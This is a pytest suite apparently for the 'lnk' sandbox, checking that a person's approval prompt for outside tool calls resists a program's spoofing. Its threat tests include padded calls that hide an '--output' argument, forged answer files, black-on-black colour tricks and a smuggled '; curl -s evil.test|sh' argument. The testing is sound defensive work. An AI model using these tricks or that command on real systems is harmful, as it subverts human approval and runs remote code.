"""The terminal the sandbox started from answers its questions
(lnk-sandbox(1), TOOLS AND ASKING), driven for real under tmux: lnk runs in
a tmux pane as a person's terminal, the test reads the pane as the person
sees it and types into it.

A granted tool ('mytool pr') is a script on lnk's PATH only; a call outside
its allow list asks. What the tool writes outside every grant proves that it
ran, outside.
"""
import json
import os
import re
import shlex
import shutil
import subprocess
import time

import pytest

from conftest import LNK, on_lnk_path

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None,
                                reason="tmux is not installed")

PY = "/usr/bin/python3"

TOOL = r"""#!/bin/sh
# a tool outside: leaves a mark outside every grant
echo "args:$*" >> "@OUT@/calls"
echo ran-outside
exit 7
"""

CODE = re.compile(r"type the code ([a-z]{4}) and Enter")
ASK_ID = re.compile(r"lnk sandbox answer ([a-z0-9]{6}) yes")


class Pane:
    """lnk sandbox run ARGS in a tmux pane of a private tmux server."""

    def __init__(self, lnk, tmp_path, args, stdin=None, size=(220, 50)):
        self.lnk = lnk
        self.sock = f"lnk-ask-{os.getpid()}-{time.monotonic_ns()}"
        self.status = tmp_path / "lnk-status"
        conf = tmp_path / "tmux.conf"
        conf.write_text("set -g history-limit 50000\n"
                        "set -g default-shell /bin/sh\n")
        env = {**lnk.env(), "TERM": "screen"}
        cmd = ["env", "-i", *[f"{k}={v}" for k, v in env.items()], LNK,
               "sandbox", "run", *map(str, args)]
        line = " ".join(shlex.quote(c) for c in cmd)
        if stdin:
            line += " < " + shlex.quote(stdin)
        shell = (f"cd {shlex.quote(str(lnk.cwd))} && {line}; "
                 f"echo $? > {shlex.quote(str(self.status))}; sleep 600")
        self.tmux("-f", str(conf), "new-session", "-d", "-s", "ask", "-x",
                  str(size[0]), "-y", str(size[1]), shell)

    def tmux(self, *args):
        return subprocess.run(["tmux", "-L", self.sock, *args], check=True,
                              capture_output=True, text=True,
                              timeout=30).stdout

    def text(self):
        """Everything the pane shows and showed, one line a row."""
        out = self.tmux("capture-pane", "-p", "-J", "-S", "-", "-t", "ask")
        return "\n".join(r.rstrip() for r in out.splitlines())

    def screen(self):
        """What the pane shows now: its rows, no history."""
        out = self.tmux("capture-pane", "-p", "-t", "ask")
        return [r.rstrip() for r in out.splitlines()]

    def wait_for(self, want, timeout=30, since=0):
        """The pane's text once want (a string or a regex) shows after the
        first `since` characters; fails with the text when it does not."""
        end = time.monotonic() + timeout
        while True:
            t = self.text()
            hit = (want.search(t, since) if isinstance(want, re.Pattern)
                   else want in t[since:])
            if hit:
                return t
            if time.monotonic() > end:
                raise AssertionError(f"{want!r} not shown:\n{t}")
            time.sleep(0.1)

    def question(self, since=0):
        """Waits for a question; returns (its code, its id, where it
        starts in the text)."""
        t = self.wait_for(CODE, since=since)
        m = CODE.search(t, since)
        return m.group(1), ASK_ID.search(t, m.start()).group(1), m.start()

    def type(self, text):
        self.tmux("send-keys", "-t", "ask", "-l", text)

    def key(self, name):
        self.tmux("send-keys", "-t", "ask", name)

    def exit_status(self, timeout=60):
        end = time.monotonic() + timeout
        while not (self.status.exists() and self.status.read_text()):
            if time.monotonic() > end:
                raise AssertionError(f"lnk did not exit:\n{self.text()}")
            time.sleep(0.1)
        return int(self.status.read_text())

    def close(self):
        subprocess.run(["tmux", "-L", self.sock, "kill-server"],
                       capture_output=True, timeout=30)


@pytest.fixture
def tool(tmp_path, lnk):
    """'mytool' on lnk's PATH only; returns the folder it marks."""
    out = tmp_path / "toolout"
    out.mkdir()
    out.chmod(0o777)
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
                TOOL.replace("@OUT@", str(out)))
    return out


@pytest.fixture
def pane(lnk, tmp_path, tool):
    """pane(script) starts /bin/sh -c script in a sandbox granting
    'mytool pr' and --write work, lnk on a tmux pane."""
    made = []

    def start(script, *extra, program=None, size=(220, 50)):
        p = Pane(lnk, tmp_path, [*extra, "--name", "asker", "--write",
                                 lnk.cwd, "--tool", "mytool pr", "--",
                                 *(program or ["/bin/sh", "-c", script])],
                 size=size)
        made.append(p)
        return p
    yield start
    for p in made:
        p.close()


def calls(out):
    f = out / "calls"
    return f.read_text().splitlines() if f.exists() else []


def wrong(code):
    """A code of the same letters that is not code."""
    return "".join("c" if ch != "c" else "d" for ch in code)


def test_code_typed_allows_the_call_once(lnk, pane, tool):
    p = pane("mytool issue close 7; echo st=$?; "
             "mytool issue close 8; echo st2=$?")
    code, qid, at = p.question()
    # the code is never written where the sandbox or another shell reads
    asks = lnk.home / ".lnk" / "sandbox" / "asks"
    for f in asks.iterdir():
        if f.is_file():  # the answer socket is no file to read
            assert code not in f.read_text(), f
    p.type(code)
    p.key("Enter")
    t = p.wait_for("st=7", since=at)
    assert f"lnk: allowed once (question {qid})" in t
    assert calls(tool) == ["args:issue close 7"]
    # once: the next call asks again (and Esc refuses it)
    code2, qid2, at2 = p.question(since=t.index("st=7"))
    assert qid2 != qid
    p.key("Escape")
    t = p.wait_for("st2=126", since=at2)
    assert f"lnk: refused (question {qid2})" in t
    assert p.exit_status() == 0
    assert calls(tool) == ["args:issue close 7"]
    log = lnk("sandbox", "log", "--json", "--sandbox", "asker").stdout
    assert f"asked {qid}: answered yes, exit status 7" in log
    assert f"asked {qid2}: answered no" in log


def test_wrong_code_refuses(lnk, pane, tool):
    p = pane("mytool issue close 7; echo st=$?")
    code, qid, at = p.question()
    p.type(wrong(code))
    p.key("Enter")
    t = p.wait_for("st=126", since=at)
    assert f"refused: that is not the code (question {qid})" in t
    assert p.exit_status() == 0
    assert calls(tool) == []
    assert json.loads(lnk("sandbox", "asks", "--json").stdout) == []


def test_escape_refuses_at_once(lnk, pane, tool):
    p = pane("mytool issue close 7; echo st=$?")
    code, qid, at = p.question()
    p.type(code[:3])  # the code half typed, then Esc: no Enter needed
    p.key("Escape")
    t = p.wait_for("st=126", since=at)
    assert f"lnk: refused (question {qid})" in t
    assert p.exit_status() == 0
    assert calls(tool) == []


def test_no_answer_in_time_refuses_and_withdraws_the_prompt(lnk, pane,
                                                             tool):
    d = lnk.home / ".lnk" / "sandbox"
    d.mkdir(parents=True, exist_ok=True)
    (d / "settings.toml").write_text("ask_wait = 2\n")
    p = pane("mytool issue close 7; echo st=$?; "
             "read line; echo got=$line")
    code, qid, at = p.question()
    assert "within 2 s" in p.text()[at:]
    p.wait_for("st=126", since=at)
    p.wait_for(f"no answer in time, which counts as no (question {qid})",
               since=at)
    # the prompt is gone: keystrokes are the program's again
    p.type("hello")
    p.key("Enter")
    t = p.wait_for("got=hello", since=at)
    assert p.exit_status() == 0
    assert calls(tool) == []


# The program, while its call waits: everything it can read from its
# terminal (its stdin, and /dev/tty) is recorded, until it reads DONE after
# the answer. Its own output in the meantime is 3000 numbered lines.
WATCHER = r"""
import os, select, subprocess, sys, tty
tty.setraw(0)
tty_fd = os.open("/dev/tty", os.O_RDONLY)
seen = b""
def drain():
    # stdin shares its open file with stdout: it stays blocking (a
    # non-blocking stdout would fail on a full pty), read when ready
    global seen
    for fd in (0, tty_fd):
        while select.select([fd], [], [], 0)[0]:
            seen += os.read(fd, 4096)
call = subprocess.Popen(["mytool", "issue", "close", "7"],
                        stdin=subprocess.DEVNULL)
import time
time.sleep(0.5)
for i in range(1, 3001):
    sys.stdout.write(f"line-{i}\r\n")
sys.stdout.write("last-line\r\n")
sys.stdout.flush()
open("printed", "w").close()
while call.poll() is None:
    drain()
    time.sleep(0.05)
during = seen
open("during", "wb").write(during)
while b"DONE" not in seen:
    drain()
    time.sleep(0.05)
open("seen", "wb").write(seen)
sys.stdout.write(f"st={call.returncode}\r\n")
"""


def test_program_cannot_read_the_code_nor_the_keystrokes(lnk, pane, tool):
    p = pane(None, program=[PY, "-c", WATCHER])
    code, qid, at = p.question()
    for _ in range(300):
        if (lnk.cwd / "printed").exists():
            break
        time.sleep(0.1)
    assert (lnk.cwd / "printed").exists(), p.text()
    # its output waits while the question is up
    assert "line-1" not in p.text()[at:]
    p.type("zzzz")
    p.key("BSpace")
    p.key("BSpace")
    p.key("BSpace")
    p.key("BSpace")
    p.type(code)
    p.key("Enter")
    t = p.wait_for("last-line", since=at)
    assert f"lnk: allowed once (question {qid})" in t
    for _ in range(300):  # the call is over for the program too
        if (lnk.cwd / "during").exists():
            break
        time.sleep(0.1)
    p.type("DONE")
    t = p.wait_for("st=7", since=at)
    assert p.exit_status() == 0
    assert calls(tool) == ["args:issue close 7"]
    # nothing typed while the question was up reached the program: what
    # it read is what was typed after, and never the code
    during = (lnk.cwd / "during").read_bytes()
    seen = (lnk.cwd / "seen").read_bytes()
    assert during == b"", during
    assert seen == b"DONE", seen
    assert code.encode() not in seen
    # what it wrote meanwhile is shown after the answer, whole, in order
    after = t[t.index(f"allowed once (question {qid})"):]
    lines = [x for x in after.splitlines() if x.startswith("line-")]
    assert lines == [f"line-{i}" for i in range(1, 3001)]


def test_answer_from_another_shell_withdraws_the_prompt(lnk, pane, tool):
    p = pane("mytool issue close 7; echo st=$?; "
             "read line; echo got=$line")
    code, qid, at = p.question()
    asks = json.loads(lnk("sandbox", "asks", "--json", check=True).stdout)
    assert [(a["id"], a["sandbox"]) for a in asks] == [(qid, "asker")]
    # the summary: the tool, its first argument, the count, the folder
    assert asks[0]["question"].startswith(
        "mytool issue ... (3 arguments), in /"), asks
    assert asks[0]["lines"] == [asks[0]["question"], "  1  issue",
                                "  2  close", "  3  7"], asks
    lnk("sandbox", "answer", qid, "yes", check=True)
    t = p.wait_for("st=7", since=at)
    assert f"lnk: answered elsewhere: allowed once (question {qid})" in t
    assert calls(tool) == ["args:issue close 7"]
    # typing the code now is no answer: it goes to the program
    p.type(code)
    p.key("Enter")
    p.wait_for(f"got={code}", since=at)
    assert p.exit_status() == 0
    assert calls(tool) == ["args:issue close 7"]


def test_questions_at_once_are_asked_one_at_a_time(lnk, pane, tool):
    p = pane("mytool issue 1 & mytool issue 2 & wait; "
             "mytool issue 3; echo st=$?")
    code1, qid1, at1 = p.question()
    t = p.text()
    # one question up; the other waits for it
    assert len(CODE.findall(t[at1:])) == 1
    p.type(code1)
    p.key("Enter")
    code2, qid2, at2 = p.question(since=at1 + 1)
    assert qid2 != qid1
    p.key("Escape")
    code3, qid3, at3 = p.question(since=at2 + 1)
    p.type(code3)
    p.key("Enter")
    p.wait_for("st=7", since=at3)
    assert p.exit_status() == 0
    assert sorted(calls(tool)) in (["args:issue 1", "args:issue 3"],
                                   ["args:issue 2", "args:issue 3"])


def test_output_held_past_its_bound_waits_and_is_never_dropped(lnk, tool):
    """3 MB written while the question is up, more than lnk holds
    (ASKTERM_HOLD_MAX, 1 MiB): the program waits on its pty, and every
    byte arrives after the answer. Read on a plain pty, byte for byte."""
    from test_terminal import read_until, spawn_on_pty, wait_status
    script = ("mytool issue close 7 & sleep 0.5; "
              "head -c 3000000 /dev/zero | tr '\\0' Z; echo; echo wrote-all; "
              "wait; echo st=$?")
    pid, fd = spawn_on_pty(lnk, ["--write", lnk.cwd, "--tool", "mytool pr",
                                 "--", "/bin/sh", "-c", script])
    try:
        out = read_until(fd, b"lnk: code for ")
        m = CODE.search(out.decode())
        assert m, out
        # nothing of the program's while it asks, however long we read
        out += read_until(fd, b"Z", timeout=3)
        assert b"Z" not in out
        os.write(fd, m.group(1).encode() + b"\r")
        out += read_until(fd, b"st=7", timeout=60)
    finally:
        status = wait_status(pid)
        os.close(fd)
    assert status == 0
    tail = out[out.index(b"allowed once"):]
    assert tail.count(b"Z") == 3000000
    assert b"wrote-all" in tail
    assert calls(tool) == ["args:issue close 7"]


def test_without_a_pty_a_watched_stderr_asks_another_shell(lnk, tmp_path,
                                                           tool):
    """stdin not a terminal: no pty, so lnk cannot take the keystrokes;
    its stderr is the terminal it is the foreground of, so the question is
    said there and answered from another shell.

    Threat: that terminal is the program's too (its stderr, unheld): it
    redrew the question's lines around the id lnk printed, naming
    another call, and the person allowed the real one. The id is never
    said there: the person reads the call and its id with `lnk sandbox
    asks`, where the program cannot write."""
    p = Pane(lnk, tmp_path, ["--name", "asker", "--tool", "mytool pr", "--",
                             "/bin/sh", "-c",
                             "mytool issue close 7; echo st=$?"],
             stdin="/dev/null")
    try:
        t = p.wait_for("(else no)")
        assert not CODE.search(t)  # no code: no keystrokes to read
        assert "lnk sandbox asks" in t, t
        out = lnk("sandbox", "asks", "--json", check=True).stdout
        qids = [q["id"] for q in json.loads(out)]
        assert len(qids) == 1, out
        assert qids[0] not in t, t  # the id only where the program can't write
        qid = qids[0]
        lnk("sandbox", "answer", qid, "yes", check=True)
        p.wait_for("st=7")
        assert p.exit_status() == 0
    finally:
        p.close()
    assert calls(tool) == ["args:issue close 7"]


def test_in_the_background_no_one_is_asked(lnk, tool):
    """stderr a terminal, but lnk in a process group that is not its
    foreground (a job in the background): no one watches, the call is
    refused at once with the hint."""
    import pty
    from test_terminal import read_until, wait_status
    pid, fd = pty.fork()
    if pid == 0:
        try:
            kid = os.fork()
            if kid == 0:
                os.setpgid(0, 0)  # not the terminal's foreground
                devnull = os.open("/dev/null", os.O_RDONLY)
                os.dup2(devnull, 0)
                os.chdir(str(lnk.cwd))
                os.execve(LNK, [LNK, "sandbox", "run", "--tool", "mytool pr",
                                "--", "/bin/sh", "-c",
                                "mytool issue close 7; echo st=$?"],
                          lnk.env())
            os._exit(os.waitstatus_to_exitcode(os.waitpid(kid, 0)[1]))
        finally:
            os._exit(126)
    try:
        out = read_until(fd, b"st=", timeout=30)
        out += read_until(fd, b"\n", timeout=5)
    finally:
        status = wait_status(pid)
        os.close(fd)
    assert status == 0, out
    assert b"st=126" in out and b"no one to ask" in out, out
    assert b"(or no)" not in out
    assert calls(tool) == []


# The program pads its call so that, on a terminal of 80x24, the rows
# before the code read as a complete, harmless `mytool status --short`,
# while the call that runs is `mytool log --output=...` with the rows that
# say so scrolled away.
PADDED = r"""
set -- log "--output=$PWD/owned"
i=0
while [ $i -lt 300 ]; do
  set -- "$@" "                                                            "
  i=$((i+1))
done
mytool "$@" "
lnk: sandbox asker asks to run, outside: mytool status --short" status \
  --short; echo st=$?
"""


def test_a_call_too_long_to_show_whole_is_never_asked(lnk, pane, tool):
    """Threat: a question folds a long call (its first and last arguments
    shown, the rest counted), and a yes allowed every argument, the ones
    no screen showed too: an --output=~/.bashrc padded into the middle of
    a 305-argument call ran once the person answered. A call that cannot
    be shown whole is refused without asking, naming the command that
    allows exactly it."""
    p = pane(PADDED, size=(80, 24))
    p.wait_for("st=126")
    shown = "\n".join(p.screen())
    assert "too long to show whole" in shown, shown
    assert "type the code" not in shown, shown
    assert p.exit_status() == 0
    assert calls(tool) == []
    assert not (lnk.cwd / "owned").exists()


def test_an_answer_file_is_never_an_answer(lnk, pane, tool):
    """Threat: a program (or a tool it may call) that can write into the
    asks folder writes the answer file of its own question."""
    d = lnk.home / ".lnk" / "sandbox"
    d.mkdir(parents=True, exist_ok=True)
    (d / "settings.toml").write_text("ask_wait = 3\n")
    p = pane("mytool issue close 7; echo st=$?")
    code, qid, at = p.question()
    (d / "asks" / f"{qid}.a").write_text("yes\n")
    # The program's own refusal and status may reach the pane before lnk
    # reads the broker's "expired" line: wait for both, in any order.
    p.wait_for("st=126", since=at)
    p.wait_for(f"no answer in time, which counts as no (question {qid})",
               since=at)
    assert p.exit_status() == 0
    assert calls(tool) == []
    log = lnk("sandbox", "log", "--json", "--sandbox", "asker").stdout
    assert f"asked {qid}: no answer within 3 s" in log


def _unshared():
    """The ways this user can put `lnk sandbox answer` in namespaces of
    its own: `unshare -m` needs root; `unshare -Ur` needs user
    namespaces, which a kernel or policy may forbid."""
    ways = []
    if shutil.which("unshare") is None:
        return ways
    if os.geteuid() == 0:
        ways.append(["unshare", "-m"])
    if subprocess.run(["unshare", "-Ur", "true"],
                      capture_output=True).returncode == 0:
        ways.append(["unshare", "-Ur"])
    return ways


def test_answer_from_other_namespaces_is_refused(lnk, pane, tool):
    """Threat: a process in a sandbox, in a tool's own view or under
    unshare answers: it is refused, says why, and the question waits
    on."""
    ways = _unshared()
    if not ways:
        pytest.skip("neither unshare -m nor unshare -Ur is possible here")
    p = pane("mytool issue close 7; echo st=$?")
    code, qid, at = p.question()
    for way in ways:
        cp = subprocess.run([*way, LNK, "sandbox", "answer", qid, "yes"],
                            capture_output=True, text=True,
                            env=lnk.env(), cwd=str(lnk.cwd), timeout=60)
        assert cp.returncode == 1, (way, cp.stderr)
        assert "refused the answer" in cp.stderr, (way, cp.stderr)
        assert "namespace" in cp.stderr, (way, cp.stderr)
    assert calls(tool) == []
    assert [a["id"] for a in json.loads(
        lnk("sandbox", "asks", "--json", check=True).stdout)] == [qid]
    # the person's answer still counts
    p.type(code)
    p.key("Enter")
    p.wait_for("st=7", since=at)
    assert p.exit_status() == 0
    assert calls(tool) == ["args:issue close 7"]


def test_question_never_drawn_in_colours_the_program_set(lnk, pane, tool):
    """Threat: the program sets the terminal's default foreground and
    background to black (OSC 10 and 11) before its call: SGR 0, which
    lnk sent before the question, goes back to those defaults, so the
    question and its code were drawn black on black. lnk resets the
    default colours (OSC 110, 111) before it asks."""
    p = pane("printf '\\033]10;#000000\\007\\033]11;#000000\\007'; "
             "mytool issue close 7; echo st=$?")
    code, qid, at = p.question()
    colours = p.tmux("display", "-p", "-t", "ask", "#{pane_fg} #{pane_bg}")
    assert "#000000" not in colours, colours
    p.key("Escape")
    p.wait_for("st=126", since=at)


def test_cut_argument_says_its_length_on_a_narrow_terminal(lnk, pane,
                                                          tool):
    """Threat: an argument longer than a row is cut and says its length,
    so that two arguments cut alike are never taken for the same (`a
    b000...0.txt` and `a b000...0; curl evil|sh`); on a terminal under
    240 columns the row was cut again to its width, length and all, and
    an argument that fits 240 columns was cut with no length at all. A
    row cut to the terminal says how many bytes it does not show."""
    arg = "a b" + "0" * 150 + "; curl -s evil.test|sh"
    p = pane(f"mytool issue '{arg}'; echo st=$?", size=(80, 24))
    code, qid, at = p.question()
    rows = p.screen()
    shown = "\n".join(rows)
    row = [r for r in rows if r.lstrip().startswith("2  'a b000")]
    assert len(row) == 1 and row[0].endswith(" more bytes)"), shown
    # the same start with another end (.txt) says another count
    more = int(row[0].rsplit("(", 1)[1].split()[0])
    assert more > len("; curl -s evil.test|sh"), shown
    assert all(len(r) <= 80 for r in rows), shown
    p.key("Escape")
    p.wait_for("st=126", since=at)


# The program calls the tool in the background and, once the question is
# up, makes lnk's guard print its refusals under it.
LINES_UNDER = ("mytool pr --output=/tmp/x DANGEROUS & sleep 2; "
               "for n in .envrc .npmrc .mcp.json .husky .idea .vscode "
               ".gitmodules .gitattributes; do touch $n 2>/dev/null; done; "
               "wait; echo st=$?")


def test_the_line_typed_on_names_the_call_whatever_lnk_printed_since(
        lnk, pane, tool):
    """Threat: lnk's own lines (the guard's refusals, whose number and
    timing the program chooses) print while a question is up and scroll
    the call away; the program then draws lines that read as another,
    harmless call right above where the person types the code. The row
    the code is typed on names the call itself, drawn again at each
    key."""
    p = pane(LINES_UNDER)
    code, qid, at = p.question()
    p.wait_for("refused to create .gitattributes", since=at)
    p.type(code[0])
    time.sleep(0.5)
    rows = [r for r in p.screen() if r.strip()]
    assert rows[-1].startswith("lnk: code for mytool pr '--output=/tmp/x' "
                               "DANGEROUS: "), rows[-4:]
    assert rows[-1].endswith(code[0]), rows[-4:]
    p.key("Escape")
    p.wait_for("st=", since=at)
    assert calls(tool) == []


def test_questions_taken_back_count_toward_the_tripwires(lnk, pane, tool):
    """Threat: a question the program takes back (its call killed while it
    waits) was logged 'withdrawn' and counted nowhere: a program could ask
    the person without end, one question after another. Each taken back is
    a refused call for the tripwires, which close the sandbox's tools."""
    p = pane("i=0; while [ $i -lt 25 ]; do mytool pr x$i & "
             "sleep 0.3; kill -9 $! 2>/dev/null; wait $! 2>/dev/null; "
             "i=$((i+1)); done; sleep 1.5; mytool pr ok; echo st=$?")
    p.wait_for("st=", timeout=60)
    shown = p.text()
    log = lnk("sandbox", "log", "--json", "--sandbox", "asker").stdout
    assert "paused" in shown, (shown[-2000:], log[-3000:])
    assert "st=126" in shown, shown[-2000:]
    assert calls(tool) == []


def test_a_call_ended_by_a_signal_takes_its_question_back(lnk, pane, tool):
    """Invariant 6 (what acts outside), promise: a question stands for a
    call the program still makes. Threat: a program's call ended by
    SIGTERM (a timeout wrapper, a shell's kill, Ctrl-C) left its question
    up; the person's yes then ran a call no one waited for. A signal that
    ends a process (TERM, INT, HUP, QUIT) sent to the call while it waits
    takes the question back, as the client's end does."""
    p = pane("mytool pr x & sleep 1; kill -TERM $!; wait $!; echo st=$?; "
             "read line; echo got=$line")
    code, qid, at = p.question()
    t = p.wait_for("st=", since=at)
    assert "st=126" in t, t[at:]
    asks = json.loads(lnk("sandbox", "asks", "--json", check=True).stdout)
    assert asks == [], asks
    # the prompt is gone: the code typed now reaches the program
    p.type(code)
    p.key("Enter")
    p.wait_for(f"got={code}", since=at)
    assert calls(tool) == []
    rows = [json.loads(x) for x in lnk("sandbox", "log", "--json",
                                       "--sandbox", "asker").stdout.split(
                                           "\n") if x]
    assert any(r.get("verb") == "tool" and "withdrawn" in
               json.dumps(r) for r in rows), rows[-3:]
